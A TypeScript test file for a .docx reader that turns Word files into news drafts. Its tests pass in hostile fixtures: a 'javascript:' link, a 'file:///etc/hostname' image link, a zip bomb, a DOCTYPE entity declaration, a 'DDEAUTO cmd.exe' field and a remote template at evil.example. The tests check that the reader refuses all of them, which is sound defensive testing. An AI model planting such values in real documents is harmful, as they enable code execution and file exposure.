import { zipSync } from 'fflate'
import { expect, test } from 'vitest'
import { readAll, readOne, textsOf, valuesOf } from '../../../build/read-all.ts'
import { wordDocument, wordParagraph, wordStyle } from '../../../build/word-document.ts'

test('a Word document: headline, byline and date by style, properties as evidence', async () => {
  const bytes = wordDocument({
    styles:
      ['Title', 'Author', 'Date'].map((id) => wordStyle(id)).join('') + wordStyle('Heading1', 'heading 1'),
    body: [
      wordParagraph('Crane falls, nobody hurt', 'Title'),
      wordParagraph('By Ada Quill', 'Author'),
      wordParagraph('24 November 2026', 'Date'),
      wordParagraph('The crane fell at noon &amp; missed everybody.'),
      wordParagraph('What the port says', 'Heading1'),
      wordParagraph('Nothing yet.'),
    ].join(''),
    core: '<dc:title>Draft 3</dc:title><dc:creator>pc-user</dc:creator><dcterms:created>2026-11-23T08:00:00Z</dcterms:created>',
  })
  const draft = await readOne(bytes, 'crane.docx')
  expect(draft).toMatchObject({
    headline: 'Crane falls, nobody hurt',
    byline: 'Ada Quill',
    published: { value: '2026-11-24T00:00:00.000Z', precision: 'day' },
  })
  expect(draft.blocks.map((block) => block.kind)).toEqual(['paragraph', 'heading', 'paragraph'])
  expect(textsOf(draft)[0]).toBe('The crane fell at noon & missed everybody.')
  expect(valuesOf(draft, 'docx:creator')).toEqual(['pc-user'])
  expect(valuesOf(draft, 'docx:created')).toEqual(['2026-11-23T08:00:00Z'])
})

test('no style, no byline: the account that saved the file is not its author', async () => {
  const draft = await readOne(
    wordDocument({ body: wordParagraph('Copy.'), core: '<dc:creator>pc-user</dc:creator>' }),
    'a.docx',
  )
  expect(draft).toMatchObject({ headline: null, byline: null, published: null })
})

test('script links are dropped and outside pictures never followed', async () => {
  const outside = (id: string, type: string, target: string): string =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`
  const relationships =
    outside('l', 'hyperlink', 'javascript:alert(1)') + outside('p', 'image', 'file:///etc/hostname')
  const picture =
    '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:docPr descr="A crane"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="p"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
  const body = `<w:p><w:hyperlink r:id="l"><w:r><w:t>press me</w:t></w:r></w:hyperlink><w:r>${picture}</w:r></w:p>`
  const draft = await readOne(wordDocument({ body, relationships }), 'link.docx')
  expect(draft.blocks).toEqual([
    { kind: 'paragraph', role: 'body', runs: [{ text: 'press me' }] },
    { kind: 'image', role: 'promo', runs: [], image: { alt: 'A crane', host: '' } },
  ])
  expect(draft.problems.map((problem) => problem.code)).toEqual(['ADDRESS_REFUSED'])
})

test('what is no Word document says what is wrong with it', async () => {
  const code = async (bytes: Uint8Array | string): Promise<string | undefined> =>
    (await readAll(bytes, 'storm.docx')).problems[0]?.code
  expect(await code('Only words.')).toBe('NOT_A_ZIP')
  expect(await code(zipSync({ 'a.txt': new Uint8Array(9) }))).toBe('DAMAGED')
  expect(await code('')).toBe('EMPTY')
  const whole = wordDocument({ body: wordParagraph('Copy that is long enough to be cut in two.') })
  expect(await code(whole.subarray(0, whole.length >> 1))).toBe('NOT_A_ZIP')
  const locked = Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(600),
    Buffer.from('EncryptedPackage', 'utf16le'),
  ])
  expect(await code(locked)).toBe('PROTECTED')
})

test('a bomb is refused before it is unpacked whole', async () => {
  const bomb = wordDocument({
    body: wordParagraph('x'),
    extra: { 'word/media/a.bin': new Uint8Array(30 * 1024 * 1024) },
  })
  expect(bomb.length).toBeLessThan(200_000)
  const { problems } = await readAll(bomb, 'storm.docx')
  expect(problems).toHaveLength(1)
  expect(problems[0]).toMatchObject({ code: 'BOMB' })
  expect(problems[0]?.words).toMatch(
    /^storm\.docx would unpack to more than 100 times its size\. It is kept, not read\.$/,
  )
})

test('a part that declares a document type is refused', async () => {
  const evil = new TextEncoder().encode('<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')
  const bytes = wordDocument({ body: wordParagraph('x'), extra: { 'word/footnotes.xml': evil } })
  expect((await readAll(bytes, 'a.docx')).problems[0]?.code).toBe('DAMAGED')
})

test('tracked changes are accepted, with a warning; what was deleted is a field', async () => {
  const change = 'w:id="1" w:author="Ira Reed" w:date="2026-11-24T10:00:00Z"'
  const body = `<w:p><w:r><w:t xml:space="preserve">The crane </w:t></w:r><w:del ${change}><w:r><w:delText>collapsed</w:delText></w:r></w:del><w:ins ${change}><w:r><w:t>fell</w:t></w:r></w:ins><w:r><w:t>.</w:t></w:r></w:p>`
  const draft = await readOne(wordDocument({ body }), 'changes.docx')
  expect(textsOf(draft)).toEqual(['The crane fell.'])
  expect(valuesOf(draft, 'docx:deleted')).toEqual(['collapsed'])
  expect(draft.problems).toEqual([
    {
      code: 'TRACKED_CHANGES',
      words:
        'changes.docx holds 2 tracked changes. It was read as if all were accepted; what was deleted stands among its fields.',
    },
  ])
})

test('comments, running heads, text boxes, drop caps, notes, raised figures', async () => {
  const related = (type: string, part: string): string =>
    `<Relationship Id="${part}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${part}.xml"/>`
  const part = (root: string, inner: string): Uint8Array =>
    new TextEncoder().encode(
      `<w:${root} xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${inner}</w:${root}>`,
    )
  const note = (kind: string, text: string): string =>
    `<w:${kind} w:id="-1" w:type="separator"><w:p><w:r><w:separator/></w:r></w:p></w:${kind}><w:${kind} w:id="2">${wordParagraph(text)}</w:${kind}>`
  const body = [
    '<w:p><w:pPr><w:framePr w:dropCap="drop" w:lines="3"/></w:pPr><w:r><w:t>D</w:t></w:r></w:p>',
    '<w:p><w:r><w:t>rop caps are joined.</w:t></w:r><w:r><w:footnoteReference w:id="2"/></w:r><w:r><w:endnoteReference w:id="2"/></w:r><w:r><w:commentReference w:id="0"/></w:r></w:p>',
    '<w:p><w:r><w:t>10 m</w:t></w:r><w:r><w:rPr><w:vertAlign w:val="superscript"/></w:rPr><w:t>2</w:t></w:r><w:r><w:pict><v:shape xmlns:v="urn:v"><v:textbox><w:txbxContent><w:p><w:r><w:t>In a box.</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>',
  ].join('')
  const bytes = wordDocument({
    body,
    relationships: ['comments', 'footnotes', 'endnotes', 'header', 'footer']
      .map((name) => related(name, name))
      .join(''),
    extra: {
      'word/comments.xml': part(
        'comments',
        `<w:comment w:id="0" w:author="Ira Reed" w:date="2026-11-24T10:00:00Z">${wordParagraph('Who says so?')}</w:comment>`,
      ),
      'word/footnotes.xml': part('footnotes', note('footnote', 'At the foot.')),
      'word/endnotes.xml': part('endnotes', note('endnote', 'At the end.')),
      'word/header.xml': part('hdr', wordParagraph('The Gazette')),
      'word/footer.xml': part('ftr', wordParagraph('Page 3 of 7')),
    },
  })
  const draft = await readOne(bytes, 'a.docx')
  expect(draft.blocks.map((block) => [block.role, block.runs[0]?.text])).toEqual([
    ['body', 'Drop caps are joined.[1][2]'],
    ['body', '10 m2'],
    ['body', 'In a box.'],
    ['body', '[1] At the foot.'],
    ['body', '[2] At the end.'],
    ['notice', 'Comment by Ira Reed, 2026-11-24: Who says so?'],
    ['notice', 'The Gazette'],
  ])
  expect(draft.problems.map((problem) => problem.code)).toEqual(['COMMENTS'])
})

test('what a document would fetch is told, never fetched', async () => {
  const relationships =
    '<Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
  const field = (code: string): string =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
  const draft = await readOne(
    wordDocument({
      body: field('DDEAUTO c:\\\\cmd.exe') + field('HYPERLINK "https://example.org/"'),
      relationships,
    }),
    'out.docx',
  )
  expect(draft.blocks.map((block) => block.runs)).toEqual([
    [{ text: 'result' }],
    [{ text: 'result', link: 'https://example.org/' }],
  ])
  expect(draft.problems).toEqual([
    {
      code: 'ADDRESS_REFUSED',
      words: 'out.docx points to something outside itself (attachedTemplate, field). Nothing was fetched.',
    },
  ])
})

test('lists by their numbering, tables with spans, a table that only lays out the page', async () => {
  const numbering = new TextEncoder().encode(
    '<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="5"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl><w:lvl w:ilvl="1"><w:numFmt w:val="bullet"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="5"/></w:num></w:numbering>',
  )
  const item = (level: number, text: string): string =>
    `<w:p><w:pPr><w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>${text}</w:t></w:r></w:p>`
  const cell = (text: string, span = 1): string =>
    `<w:tc><w:tcPr><w:gridSpan w:val="${span}"/></w:tcPr>${wordParagraph(text)}</w:tc>`
  const body = [
    wordParagraph('Copy.'),
    item(0, 'one'),
    item(1, 'inner'),
    `<w:tbl><w:tr><w:trPr><w:tblHeader/></w:trPr>${cell('A')}${cell('B')}</w:tr><w:tr>${cell('wide', 2)}</w:tr></w:tbl>`,
    `<w:tbl><w:tr>${cell('left')}${cell('right')}</w:tr></w:tbl>`,
  ].join('')
  const { blocks } = await readOne(
    wordDocument({ body, extra: { 'word/numbering.xml': numbering } }),
    'a.docx',
  )
  expect(blocks.slice(1)).toEqual([
    { kind: 'listItem', role: 'body', level: 1, ordered: true, runs: [{ text: 'one' }] },
    { kind: 'listItem', role: 'body', level: 2, runs: [{ text: 'inner' }] },
    {
      kind: 'table',
      role: 'body',
      runs: [],
      headed: true,
      rows: [
        [[{ text: 'A' }], [{ text: 'B' }]],
        [[{ text: 'wide' }], []],
      ],
    },
    { kind: 'paragraph', role: 'body', runs: [{ text: 'left' }] },
    { kind: 'paragraph', role: 'body', runs: [{ text: 'right' }] },
  ])
})

test("a document without styles: the line above the copy is its headline, a program's title is none", async () => {
  const lines = [
    'Crane falls, nobody hurt',
    'By Ada Quill',
    'PORT ELLERY, March 14 — The crane fell at noon.',
  ]
  const draft = await readOne(
    wordDocument({
      body: lines.map((line) => wordParagraph(line)).join(''),
      core: '<dc:title>Document1</dc:title>',
    }),
    'a.docx',
  )
  expect(draft).toMatchObject({
    headline: 'Crane falls, nobody hurt',
    byline: 'Ada Quill',
    dateline: 'PORT ELLERY, March 14',
  })
  const titled = await readOne(
    wordDocument({
      body: wordParagraph('The crane fell at noon.'),
      core: '<dc:title>Crane falls</dc:title>',
    }),
    'a.docx',
  )
  expect(titled.headline).toBe('Crane falls')
})
